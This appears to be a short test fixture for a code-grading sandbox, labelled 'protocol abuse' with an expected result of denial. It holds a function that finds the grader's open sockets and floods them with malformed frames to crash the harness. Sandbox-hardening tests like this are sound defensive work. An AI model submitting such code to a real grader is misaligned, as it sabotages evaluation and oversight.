# expect: denied: crashed
# kind: protocol abuse
# defence: frames (grader's fault)
# seconds: 3
import os
import stat


def FUNCTION(*args):
    small = b"\0\0\0\1[" * 20_000
    for number in range(3, 50):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                while True:
                    os.write(number, small)
        except OSError:
            continue
